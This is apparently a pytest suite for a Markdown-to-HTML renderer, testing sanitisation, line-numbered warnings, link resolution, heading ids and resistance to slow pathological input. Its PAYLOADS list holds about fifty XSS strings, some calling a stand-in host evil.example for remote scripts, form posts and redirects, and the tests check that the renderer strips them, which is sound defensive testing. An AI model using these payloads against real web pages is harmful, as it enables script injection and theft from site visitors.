"""Markdown into safe HTML, with every mistake named."""

from __future__ import annotations

import time

import html5lib
import pytest

from kronika.links import Resolve, Target, Unresolved
from kronika.prose import Rendered, render_prose
from kronika.sanitising import ATTRIBUTES, TAGS

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=body></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/x.png)",
    "text {: onclick='alert(1)' style='color:red' }",
    "## Heading { onmouseover=alert(1) #k-content }",
    "<div id=__config>x</div>",
    "<p id=body name=body>x</p>",
    "<a name=getElementById id=cookie>x</a>",
    "</main></body><plaintext>",
    "<!-- <script>alert(1)</script>",
    "<textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<b/onmouseover=alert(1)>x</b>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "<a href='https://example.org/' target=_blank ping=https://evil.example>x</a>",
]


def nowhere(address: str) -> Target | Unresolved:
    """Know one record only."""
    if address == "event:known":
        return Target("kalendarium/known.html", "../kalendarium/known.html")
    return Unresolved("link-missing", "event:known")


def render(markdown: str, resolve: Resolve = nowhere) -> Rendered:
    """Render a Polish text that begins on line 5 of its file."""
    return render_prose(markdown, path="docs/news/x.md", line=5, locale="pl", resolve=resolve)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_attack_survives(payload: str) -> None:
    """Every element and attribute that is left is on the allow-list."""
    html = render(f"przed\n\n{payload}\n\npo").html

    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    for element in list(tree.iter())[1:]:
        assert element.tag in TAGS
        framed = {"class", "tabindex", "role", "aria-label"} if element.tag == "div" else set()
        allowed = ATTRIBUTES.get(element.tag, set()) | ATTRIBUTES["*"] | framed | {"rel"}
        assert set(element.attrib) <= allowed
        address = element.attrib.get("href", "")
        assert "script:" not in address.lower()
        assert not address.startswith(("//", "data:"))
        assert not element.attrib.get("id", "").startswith(("k-", "__"))


def test_what_was_removed_is_named_with_its_line() -> None:
    """The text stays, and a warning tells where to look."""
    rendered = render("akapit\n\n<marquee>ważne</marquee>\n")

    assert "ważne" in rendered.html
    assert [(each.code, each.line, each.level) for each in rendered.problems] == [
        ("html-removed", 7, "warning")
    ]


@pytest.mark.parametrize(
    ("markdown", "code", "line"),
    [
        ("a\n\n[x](event:unknown)", "link-missing", 7),
        ("a\n\n# Tytuł", "heading-one", 7),
        ("## \n", "heading-empty", 5),
        ("a\n\n![opis](zdjecie.jpg)", "image-in-text", 7),
        ("[x](#nigdzie)", "anchor-missing", 5),
    ],
)
def test_mistakes_are_reported_at_their_line(markdown: str, code: str, line: int) -> None:
    """The line is the one of the file, front matter counted."""
    assert (code, line) in [(each.code, each.line) for each in render(markdown).problems]


def test_links_to_records_become_relative_addresses() -> None:
    """And are kept for checking when all pages exist."""
    rendered = render("[wydarzenie](event:known)")

    assert '<a href="../kalendarium/known.html">wydarzenie</a>' in rendered.html
    assert [link.uri for link in rendered.links] == ["kalendarium/known.html"]


def test_headings_get_ids_in_plain_letters() -> None:
    """ł is kept as l, and a link on the page finds them."""
    rendered = render("## Łódź i źródła\n\n[skok](#lodz-i-zrodla)")

    assert 'id="lodz-i-zrodla"' in rendered.html
    assert rendered.problems == ()


@pytest.mark.parametrize(
    "hostile",
    ["[" * 20_000, "![" * 10_000, "<a " * 8_000, "[a](" * 6_000, "*" * 100_000, ">" * 50_000,
     "`" * 60_000, "<" * 60_000, "- " * 30_000, "(" * 100_000],
)  # fmt: skip
def test_hostile_text_ends_in_bounded_time(hostile: str) -> None:
    """Quadratic input is stopped, not waited for (safety table, H12)."""
    start = time.process_time()

    rendered = render(hostile)

    assert time.process_time() - start < 8
    assert all(
        each.code in ("prose-slow", "html-removed", "heading-empty") for each in rendered.problems
    )


def test_one_letter_words_are_tied_but_never_in_code() -> None:
    """Code stays as typed."""
    html = render("dom w mieście i `a i b`").html

    assert "w\u00a0mieście i\u00a0<code>a i b</code>" in html or "w\u00a0mieście" in html
    assert "<code>a i b</code>" in html
